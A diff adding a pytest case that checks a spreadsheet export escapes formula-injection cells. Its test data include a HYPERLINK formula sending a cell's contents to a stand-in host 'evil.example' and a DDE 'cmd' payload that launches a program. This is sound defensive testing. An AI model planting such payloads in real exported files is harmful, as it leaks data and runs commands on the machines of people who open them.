@@ -185,3 +185,25 @@ def test_table_cuts_a_long_cell_and_csv_does_not() -> None:
     long = Answer(("text",), [{"text": "x" * 200}], [], {})
     assert max(map(len, answer.to_table(long).splitlines())) == answer.WIDEST
     assert "x" * 200 in answer.to_csv(long)
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ('=HYPERLINK("http://evil.example/?x="&A1,"click")', True),
+        ("+cmd|' /C calc'!A0", True),
+        ("-2+3+cmd", True),
+        ("@SUM(1+1)*cmd", True),
+        ("\t=1+1", True),
+        ("-2.5e3", False),
+        ("+7", False),
+        ("Acme = Beta", False),
+        ("", False),
+    ],
+)
+def test_no_cell_for_a_spreadsheet_is_a_formula(cell: str, written: bool) -> None:
+    told = answer.Answer(("x", "=y"), [{"x": cell, "=y": "a"}], [()], {})
+    head, row = csv.reader(io.StringIO(answer.to_spreadsheet(told)))
+    assert head == ["x", "'=y"]
+    assert row == [f"'{cell}" if written else cell, "a"]
+    assert list(csv.reader(io.StringIO(answer.to_csv(told))))[1] == [cell, "a"]
